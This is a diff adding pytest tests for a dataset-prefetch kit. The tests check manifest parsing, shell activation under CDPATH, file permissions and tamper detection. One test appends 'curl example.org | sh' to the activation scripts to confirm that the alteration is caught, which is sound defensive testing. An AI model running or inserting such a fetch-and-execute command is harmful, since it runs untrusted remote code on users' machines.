@@ -64,8 +64,9 @@ def test_every_subject_of_a_data_set_is_fetched_unless_some_are_named(folder, re
 def test_the_manifest_tells_size_and_hash_of_every_file(folder, recordings):
     kit.prefetch(folder, datasets=["Own:1"])
 
-    (item,) = json.loads((folder / "manifest.json").read_text())["items"]
+    activate, item = json.loads((folder / "manifest.json").read_text())["items"]
 
+    assert list(activate["files"]) == ["activate.sh", "activate.bat"]
     assert item["name"] == "Own:1"
     assert item["files"] == {
         "mne_data/MNE-own-data/subject1.edf": {
@@ -130,7 +131,21 @@ def test_a_manifest_that_names_files_outside_its_folder_is_refused(folder, tmp_p
     assert (tmp_path / "precious").exists()
 
 
-@pytest.mark.parametrize("text", ["", "[]", '{"items": [1]}', '{"items": [{"nom": "a"}]}'])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "[]",
+        "[" * 100_000,
+        '{"items": [1]}',
+        '{"items": [{"nom": "a"}]}',
+        '{"items": [{"name": 1}]}',
+        '{"items": [{"name": "a", "files": []}]}',
+        '{"items": [{"name": "a", "files": {"b": 1}}]}',
+        '{"items": [{"name": "a", "files": {"b": {"size": "1", "sha256": ""}}}]}',
+        '{"items": [{"name": "a", "files": {"b": {"size": 1}}}]}',
+    ],
+)
 def test_a_broken_manifest_is_refused(folder, text):
     folder.mkdir()
     (folder / "manifest.json").write_text(text)
@@ -165,6 +180,64 @@ def test_a_kit_may_be_moved_and_then_activated(folder, tmp_path, recordings):
         f"{key}={value}" for key, value in install.settings(moved).items()
     }
     assert install.check(moved) == []
+
+
+@pytest.mark.parametrize("shell", ["bash", "dash", "zsh"])
+@pytest.mark.parametrize("way", ["./a kit/activate.sh", "{folder}/activate.sh"])
+def test_a_kit_is_activated_in_every_shell_whatever_cdpath_says(folder, tmp_path, recordings, shell, way):
+    if shutil.which(shell) is None:
+        pytest.skip(f"{shell} is not installed")
+    kit.prefetch(folder)
+    moved = folder.rename(tmp_path / "a kit")
+    (tmp_path / "elsewhere/a kit").mkdir(parents=True)
+    cdpath = f"{tmp_path}/elsewhere:{tmp_path}:/"
+    command = [shell, "-c", '. "$1" && env', shell, way.format(folder=moved)]
+
+    for options in (["-e"], ["-u"]):
+        done = subprocess.run(
+            [shell, *options, *command[1:]],
+            cwd=tmp_path,
+            env=os.environ | {"CDPATH": cdpath},
+            capture_output=True,
+            text=True,
+        )
+
+        assert done.stderr == ""
+        settings = {f"{key}={value}" for key, value in install.settings(moved).items()}
+        assert set(done.stdout.splitlines()) >= settings
+
+
+@pytest.mark.parametrize("file", ["activate.sh", "activate.bat"])
+def test_scripts_that_are_sourced_are_verified(folder, recordings, file):
+    kit.prefetch(folder)
+    with (folder / file).open("a") as script:
+        script.write("curl example.org | sh")
+
+    (problem,) = install.check(folder)
+    kit.prefetch(folder)
+
+    assert problem.startswith(f"activate: {file} was altered")
+    assert install.check(folder) == []
+
+
+@pytest.mark.parametrize("file", ["json.py", "wheels/sub/evil.whl", "Makefile", "eeglab_models.zip"])
+def test_what_the_manifest_does_not_name_is_refused(folder, recordings, file):
+    kit.prefetch(folder)
+    (folder / file).parent.mkdir(exist_ok=True, parents=True)
+    (folder / file).touch()
+
+    assert install.check(folder) == [f"{file} is not in the manifest."]
+
+
+def test_a_kit_on_a_share_can_be_read_by_others(folder, recordings, index):
+    before = os.umask(0o022)
+    try:
+        kit.prefetch(folder, datasets=["Own"], workshop=True)
+    finally:
+        os.umask(before)
+
+    rights = {path: path.stat().st_mode & 0o777 for path in [folder, *folder.rglob("*")]}
+    assert {path: mode for path, mode in rights.items() if mode not in (0o644, 0o755)} == {}
 
 
 def test_the_check_exits_with_one_and_names_what_is_wrong(folder, recordings):
